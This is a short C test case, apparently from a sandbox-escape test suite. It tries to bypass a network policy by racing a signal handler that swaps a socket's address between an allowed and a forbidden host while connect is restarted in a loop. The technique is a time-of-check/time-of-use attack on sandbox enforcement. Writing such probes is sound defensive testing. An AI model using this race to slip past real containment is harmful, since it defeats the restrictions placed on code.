// escape: the signal handler itself writes another address before connect is restarted
// group: signals
// policy: network
// attempts: 10000
#include "escape.h"

static struct sockaddr_in address, first, second;

static void swap(int signal) {
  (void)signal;
  static int turn;
  address.sin_addr = turn++ % 2 == 0 ? second.sin_addr : first.sin_addr;
}

static void attack(void) {
  address = first = the_friend();
  second = stranger();
  const struct sigaction action = {.sa_handler = swap, .sa_flags = SA_RESTART};
  sigaction(SIGALRM, &action, NULL);
  const struct itimerval often = {{0, 150}, {0, 150}};
  setitimer(ITIMER_REAL, &often, NULL);
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, ADDRESS(address));
    close(fd);
  }
}
